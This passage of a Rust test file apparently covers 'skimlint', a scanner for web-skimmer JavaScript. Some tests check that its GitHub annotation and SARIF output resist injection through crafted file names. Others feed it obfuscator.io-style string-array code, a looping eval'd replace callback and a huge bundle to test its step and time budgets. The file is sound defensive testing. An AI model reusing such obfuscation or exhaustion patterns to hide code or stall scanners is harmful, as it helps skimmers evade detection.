    // saying so) that no name can turn into a command.
    let (out, _) = get("github");
    let text = String::from_utf8(out).unwrap();
    assert_eq!(raw_control(&text), None, "github output has a raw control");
    assert!(
        !text.contains('\u{202e}'),
        "github: bidi override in the log"
    );
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines
            .iter()
            .all(|l| l.starts_with("::") || l.starts_with("skimlint: ")),
        "{text}"
    );
    let plain = lines
        .iter()
        .filter(|l| l.starts_with("skimlint: ") && !l.starts_with("skimlint: GitHub keeps"))
        .count();
    let lines: Vec<&str> = lines.into_iter().filter(|l| l.starts_with("::")).collect();
    assert_eq!(
        lines.len() + plain,
        findings.len() + problems.len(),
        "{text}"
    );
    for level in ["::error ", "::warning ", "::notice "] {
        assert!(lines.iter().filter(|l| l.starts_with(level)).count() <= 10);
    }
    for l in &lines {
        assert!(
            l.starts_with("::error file=")
                || l.starts_with("::warning file=")
                || l.starts_with("::notice file="),
            "{l}"
        );
        assert!(!l.contains('\r'));
        // Properties end at the first `::`; nothing a file name holds may end them earlier.
        let props = &l[2..l[2..].find("::").unwrap() + 2];
        let file = props.split(',').next().unwrap();
        assert!(!file["file=".len()..].contains(':'), "{l}");
    }
    // SARIF: valid JSON, valid against the schema, URIs percent-encoded.
    let (sarif, _) = get("sarif");
    let doc: serde_json::Value = serde_json::from_slice(&sarif).expect("SARIF is valid JSON");
    if let Some(schema) = sarif_schema() {
        let validator = jsonschema::validator_for(&schema).unwrap();
        let errors: Vec<String> = validator.iter_errors(&doc).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{errors:?}");
    }
    let notes = &doc["runs"][0]["invocations"][0]["toolExecutionNotifications"];
    assert_eq!(notes.as_array().unwrap().len(), 1);
    for r in doc["runs"][0]["results"].as_array().unwrap() {
        let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap();
        assert!(
            uri.chars().all(|c| c.is_ascii_graphic()),
            "URI not encoded: {uri:?}"
        );
    }
}

#[test]
fn string_array_checksums_and_replace_callbacks_stay_within_the_step_budget() {
    // An obfuscator.io-shaped string array of 60,000 items whose rotation checksum never
    // matches (every rotation is tried, each costing budgeted steps), and a replace callback
    // that loops for every character of a 200 KB string.
    let dir = tree();
    let items: Vec<String> = (0..60_000).map(|i| format!("'{i}abc'")).collect();
    let terms: Vec<String> = (0..40)
        .map(|i| format!("parseInt(A(0x{i:x}))/0x{:x}", i + 1))
        .collect();
    let checksum = format!(
        "function F(){{var a=[{}];F=function(){{return a;}};return F();}}\
         function G(i,k){{var a=F();return G=function(j,l){{j=j-0x0;var x=a[j];return x;}},G(i,k);}}\
         (function(f,t){{var A=G,r=f();while(!![]){{try{{var c={};if(c===t)break;else r['push'](r['shift']());}}\
         catch(e){{r['push'](r['shift']());}}}}}}(F,0x1));",
        items.join(","),
        terms.join("+")
    );
    std::fs::write(dir.path().join("checksum.js"), checksum).unwrap();
    let replace = format!(
        "eval(\"{}\".replace(/./g,function(c){{var s='';for(var k=0;k<500;k++){{s+=c;}}return s;}}));",
        "x".repeat(200_000)
    );
    std::fs::write(dir.path().join("replace.js"), replace).unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .warned("checksum.js", "step budget")
        .warned("replace.js", "");
}

#[test]
fn bundle_shaped_code_finishes_well_within_the_time_budget() {
    // Shaped like WordPress's dist bundles, which each used their whole 10 s: thousands of
    // calls of named functions (payload candidates) in one module body, each folded in the
    // context of the statements before it; and a breadth-first walk whose array grows by a
    // spread of unknown items, which the helper interpreter ran (copying it) until time ran out.
    let dir = tree();
    let mut bundle = String::from("(function(){");
    for i in 0..3000 {
        bundle.push_str(&format!(
            "function f{i}(x){{return x}}var o{i}={{a:[1,2,3],b:\"s{i}\",c:{{d:o{}}}}};var v{i}=f{i}(window.x{i});",
            i.max(1) - 1
        ));
    }
    bundle.push_str("})();");
    std::fs::write(dir.path().join("bundle.js"), bundle).unwrap();
    std::fs::write(
        dir.path().join("spread.js"),
        "function hq(e,t){let r=[...t],n=[...t];for(;r.length;){let i=r.shift();\
         r.push(...i.innerBlocks),n.push(...i.innerBlocks)}return n}var w=hq(window.a,window.b);",
    )
    .unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .no_warning_for("bundle.js")
        .no_warning_for("spread.js");
}
